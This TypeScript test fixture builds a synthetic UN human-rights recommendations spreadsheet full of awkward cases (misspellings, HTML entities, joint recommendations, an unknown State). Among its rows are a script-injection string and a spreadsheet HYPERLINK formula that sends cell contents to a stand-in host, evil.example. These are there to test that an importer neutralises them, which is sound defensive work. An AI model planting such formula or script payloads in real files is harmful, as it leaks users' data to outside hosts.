/**
 * A small export of the Universal Human Rights Index, with everything that makes real ones awkward:
 * misspelt headings, several values in a cell, Excel's dates, HTML entities, joint recommendations,
 * another mechanism's row, a State that nobody knows, and texts that somebody wrote to do harm.
 */

import { writeWorkbook, type Cell } from './workbook.ts';

const HEADINGS = [
  'Text',
  'Countries Concerned',
  'Reccomending Body',
  'Document Symbol',
  'Themes',
  'Affected Persons',
  'Sdgs',
  'Document Publication Date',
  'UPR Reccomending States',
  'UPR Position',
  'Type',
  'OHCHR Annotation Id',
  'UPR Session',
  'Regions Concerned',
  'Recommending Regions',
  'Date of publication on UHRI',
];

const list = (...values: string[]): string => values.map((value) => `- ${value}`).join('\n');

/** A recommendation as it should arrive. */
export interface Expected {
  paragraph: string;
  text: string;
  states: string[];
  position: string;
}

/** What a browser would run if it were not shown as text. */
export const SCRIPT = `<script>document.title = 'taken over'</script>`;
/** What a spreadsheet would compute if it were not made harmless. */
export const FORMULA = `=HYPERLINK("https://evil.example/?leak="&A1, "Open")`;

/** The recommendations of the file, in the report's order. */
export const RECOMMENDATIONS: readonly Expected[] = [
  {
    paragraph: '45.1',
    text: 'Ratify the Optional Protocol to the Convention against Torture',
    states: ['Norway'],
    position: 'Supported',
  },
  {
    paragraph: '45.2',
    text: 'Protect human rights defenders & journalists',
    states: ['France', 'Lithuania'],
    position: 'Supported',
  },
  {
    paragraph: '45.3',
    text: 'Abolish the death penalty – in law and in practice',
    states: ['Norway'],
    position: 'Noted',
  },
  {
    paragraph: '45.9',
    text: `Remind everybody that ${SCRIPT} is a text`,
    states: ['Chile'],
    position: 'Noted',
  },
  { paragraph: '45.10', text: FORMULA, states: ['Chile'], position: 'Noted' },
  {
    paragraph: '45.11',
    text: 'Ensure fair trials for all',
    states: ['Norway', 'Chile', 'Ghana'],
    position: 'Partially supported',
  },
  {
    paragraph: '45.12',
    text: 'Consider a national human rights institution',
    states: ['Ghana'],
    position: 'Pending',
  },
  {
    paragraph: '45.20',
    text: 'Strengthen the independence of judges',
    states: ['Lithuania'],
    position: 'Unknown',
  },
];

/** What the preview has to say about the file. */
export const COUNTS = { created: RECOMMENDATIONS.length, rejected: 1, skipped: 1 };

/** The file, about the fourth cycle of a State. */
export function uhriExport(state: string): Buffer {
  const row = (values: Record<string, Cell>): Cell[] =>
    HEADINGS.map((heading) => values[heading] ?? defaults(state)[heading]);
  const text = (place: number): string => RECOMMENDATIONS[place]?.text ?? '';
  const rows = [
    row({
      Text: `45.1 ${text(0)} (Norway);\nSource of Position: A/HRC/58/12/Add.1 - Para.6`,
      'UPR Reccomending States': list('Norway'),
      'UPR Position': 'Supported',
      Themes: list('Prohibition of torture', 'Acceptance of international norms'),
      Sdgs: list('16.1 - REDUCE ALL FORMS OF VIOLENCE', '16.3 - RULE OF LAW AND JUSTICE'),
      'OHCHR Annotation Id': 'e2e-1',
    }),
    row({
      Text: '45.2 Protect human rights defenders &amp; journalists (France) (Lithuania);',
      'UPR Reccomending States': list('France', 'Lithuania'),
      'UPR Position': 'Supported',
      Themes: list('Human rights defenders'),
      'Affected Persons': list('Human rights defenders', 'Media professionals'),
      'OHCHR Annotation Id': 'e2e-2',
    }),
    row({
      Text: '45.3 Abolish the death penalty &ndash; in law and in practice (Norway);',
      'UPR Reccomending States': list('Norway'),
      'UPR Position': 'Noted',
      Themes: list('Death penalty'),
      'OHCHR Annotation Id': 'e2e-3',
    }),
    row({
      Text: `45.9 Remind everybody that ${SCRIPT.replace('<', '&lt;').replace('>', '&gt;')} is a text (Chile);`,
      'UPR Reccomending States': list('Chile'),
      'UPR Position': 'Noted',
      'OHCHR Annotation Id': 'e2e-9',
    }),
    row({
      Text: `45.10 ${FORMULA} (Chile);`,
      'UPR Reccomending States': list('Chile'),
      'UPR Position': 'Noted',
      'OHCHR Annotation Id': 'e2e-10',
    }),
    row({
      Text: '45.11 Ensure fair trials for all (Norway) (Chile) (Ghana);',
      'UPR Reccomending States': list('Norway', 'Chile', 'Ghana'),
      'UPR Position': 'Supported/Noted',
      Themes: list('Administration of justice & fair trial'),
      'OHCHR Annotation Id': 'e2e-11',
    }),
    row({
      Text: '45.12 Consider a national human rights institution (Ghana);',
      'UPR Reccomending States': list('Ghana'),
      'UPR Position': 'Under consideration',
      'OHCHR Annotation Id': 'e2e-12',
    }),
    row({
      Text: '45.20 Strengthen the independence of judges (Lithuania);',
      'UPR Reccomending States': list('Lithuania'),
      'OHCHR Annotation Id': 'e2e-20',
    }),
    row({
      Text: '45.21 Protect the environment (Norwey);',
      'UPR Reccomending States': list('Norwey'),
      'UPR Position': 'Supported',
      'OHCHR Annotation Id': 'e2e-21',
    }),
    row({
      Text: '12. The Committee is concerned about conditions of detention.',
      'Reccomending Body': list('CAT'),
      'Document Symbol': 'CAT/C/XYZ/CO/5',
      Type: 'Concerns/Observations',
      'UPR Session': undefined,
      'OHCHR Annotation Id': 'e2e-cat',
    }),
  ];
  return writeWorkbook([HEADINGS, ...rows]);
}

const defaults = (state: string): Record<string, Cell> => ({
  'Countries Concerned': list(state),
  'Reccomending Body': list('UPR'),
  'Document Symbol': 'A/HRC/58/12',
  'Document Publication Date': 45_657,
  Type: 'Recommendations',
  'UPR Session': '- 47th Session (4-15 November 2024)',
  'Regions Concerned': list('Western European and Others Group'),
  'Recommending Regions': list('Western European and Others Group'),
  'Date of publication on UHRI': 45_700,
});
